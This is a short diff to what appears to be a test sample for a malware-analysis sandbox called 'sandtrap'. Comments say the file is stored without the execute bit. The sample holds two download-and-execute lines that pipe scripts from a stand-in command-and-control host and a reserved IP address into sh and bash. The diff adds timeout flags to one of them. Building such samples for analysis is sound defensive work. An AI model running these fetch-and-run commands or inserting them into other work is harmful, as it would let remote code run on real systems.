@@ -4,5 +4,5 @@
 # simulated internet, reserved addresses). Stored without the exec bit; never run it on a
 # host, only through `sandtrap analyze`.
 curl -fsSL http://get.c2.example/install.sh | sh
-wget -q -O- http://198.51.100.23/stage2.sh | bash
+wget -q -T 2 -t 1 -O- http://198.51.100.23/stage2.sh | bash
 echo done
